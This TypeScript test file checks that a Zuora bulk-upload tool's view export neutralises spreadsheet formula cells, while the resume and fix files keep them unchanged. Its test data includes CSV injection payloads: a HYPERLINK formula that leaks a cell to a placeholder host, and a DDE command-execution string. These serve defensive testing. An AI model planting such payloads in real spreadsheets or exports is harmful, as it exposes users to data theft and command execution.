import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvFile } from '../../../zuora-sandbox/scenario-files';
import { downloadResultZip, readResultZip, resultFilesContext, type ResultFilesContext } from '../../testing/result-files';
import { exportFixFile, exportResumeFile, exportView, openRawZip } from './exports';

// Cells a spreadsheet would run as formulas, uploaded to Zuora and back in its result file: the view
// export must neutralise them, the files that go back to Zuora must keep them byte for byte.

const RISKY = ['=HYPERLINK("https://example.invalid/?leak="&A2,"Open")', '+44 20 7946 0958', '-2.50', '@SUM(1+1)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
const HARMLESS = ['plain note', "'already text", ' =1+1', '#FIN-12', '2+2', 'a-b', ''];
const NOTES = [...RISKY, ...HARMLESS];
const HEADER = ['Object Key', 'Object Type', 'Deferred Revenue Accounting Code', 'Recognized Revenue Accounting Code', '# Note'];
const UPLOADED = Array.from({ length: 42 }, (_, i) => [
  `8a8aa1b2${String(i).padStart(24, '0')}`, 'Invoice Item', i % 3 === 0 ? '-24100' : '24100', i % 4 === 0 ? '+41000' : '41000', NOTES[i % NOTES.length] ?? '',
]);

// The rule, written out independently of the code under test (OWASP: =, +, -, @, tab, carriage return).
const asOpenedSafely = (cell: string) => (['=', '+', '-', '@', '\t', '\r'].includes(cell.charAt(0)) ? `'${cell}` : cell);

let ctx: ResultFilesContext;
let bulkKey: string;
let zuoraZip: Uint8Array;
let resultRows: { uploaded: string[]; cells: string[]; success: string }[];

beforeAll(async () => {
  ctx = await resultFilesContext();
  const file = csvFile('risky-cells.csv', [HEADER, ...UPLOADED]);
  bulkKey = await ctx.upload({ name: file.fileName, bytes: file.bytes }, { pendingMs: 0, rowsPerSecond: 10, failEvery: 3, stoppingMs: 0 });
  await ctx.advanceClock(2000);
  await ctx.client.stopMassAction(bulkKey);
  const state = await ctx.settled(bulkKey);
  expect(await ctx.importer.ensureSettled({ bulkKey, actionType: state.actionType, outputUrl: state.outputUrl })).toMatchObject({ state: 'ready' });
  zuoraZip = await downloadResultZip(ctx, state.outputUrl ?? '');
  const { header, rows } = readResultZip(zuoraZip);
  resultRows = rows.map((cells, i) => ({ uploaded: UPLOADED[i] ?? [], cells, success: cells[header.indexOf('Success')] ?? '' }));
}, 60_000);
afterAll(async () => ctx.close());

async function text(stream: NodeJS.ReadableStream): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk as Uint8Array));
  return Buffer.concat(chunks).toString('utf8');
}

describe('cells a spreadsheet would run as formulas', () => {
  it('come back in every outcome, as uploaded, in Zuora\'s result file', () => {
    expect(new Set(resultRows.map((r) => r.success))).toEqual(new Set(['Y', 'N', '']));
    expect(resultRows.map((r) => r.cells.slice(0, HEADER.length))).toEqual(UPLOADED);
  });

  it('start with an apostrophe in the view export, every other cell untouched', async () => {
    const all = await text((await exportView(ctx.db, bulkKey, { outcome: 'all', search: '', template: '', sort: 'row-asc' })).stream);
    const { header } = readResultZip(zuoraZip);
    expect(all).toBe(stringify([header, ...resultRows.map((r) => r.cells)].map((row) => row.map(asOpenedSafely)), { quoted_match: /[\r\n]/ }));
    const parsed = parse(all) as string[][];
    expect(parsed.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(parsed[1]?.slice(2, 5)).toEqual(["'-24100", "'+41000", `'${RISKY[0]}`]);
    expect(parsed.map((row) => row[4])).toEqual(expect.arrayContaining(["'+44 20 7946 0958", "'-2.50", "'@SUM(1+1)", "'\t=1+1", "'\r=1+1", ...HARMLESS]));

    // Any view: a filter and a search go through the same rule.
    const failed = parse(await text((await exportView(ctx.db, bulkKey, { outcome: 'failed', search: '2.50', template: '', sort: 'row-desc' })).stream)) as string[][];
    expect(failed.length).toBeGreaterThan(1);
    expect(failed.slice(1).every((row) => row[4] === "'-2.50")).toBe(true);
  });

  it('stay byte for byte as uploaded in the resume file', async () => {
    const resume = await text((await exportResumeFile(ctx.db, bulkKey)).stream);
    const notProcessed = resultRows.filter((r) => r.success === '').map((r) => r.uploaded);
    expect(notProcessed.map((row) => row[4])).toEqual(expect.arrayContaining(RISKY));
    expect(resume).toContain('\n8a8aa1b2000000000000000000000030,Invoice Item,-24100,41000,-2.50\n');
    expect(resume).toBe(stringify([HEADER, ...notProcessed], { quoted_match: /[\r\n]/ }));
    expect(resume).not.toMatch(/'[=+\-@\t\r]/);
  });

  it('stay byte for byte as uploaded in the fix file, beside Zuora\'s error', async () => {
    const fix = await text((await exportFixFile(ctx.db, bulkKey)).stream);
    const failed = resultRows.filter((r) => r.success === 'N');
    expect(failed.filter((r) => RISKY.includes(r.uploaded[4] ?? '')).length).toBeGreaterThanOrEqual(3);
    expect(fix).toBe(stringify([[...HEADER, '#Error Message'], ...failed.map((r) => [...r.uploaded, r.cells[HEADER.length + 1] ?? ''])], { quoted_match: /[\r\n]/ }));
  });

  it('stay as Zuora wrote them in the original zip', async () => {
    const raw = await openRawZip(ctx.db, bulkKey);
    const chunks: Buffer[] = [];
    for await (const chunk of raw.stream) chunks.push(Buffer.from(chunk as Uint8Array));
    expect(new Uint8Array(Buffer.concat(chunks))).toEqual(zuoraZip);
  });
});
